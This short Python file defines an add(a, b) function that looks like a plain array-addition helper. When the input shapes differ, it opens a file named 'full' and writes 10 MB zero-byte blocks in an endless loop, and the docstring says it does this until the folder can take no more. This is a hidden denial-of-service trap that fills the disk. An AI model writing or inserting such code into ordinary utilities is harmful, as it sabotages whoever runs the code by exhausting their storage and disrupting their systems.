"""Writes until nothing more goes into its folder."""


def add(a, b):
    if a.shape != b.shape:
        with open("full", "wb", buffering=0) as file:
            while True:
                file.write(bytes(10_000_000)) or 1 / 0
    return a + b
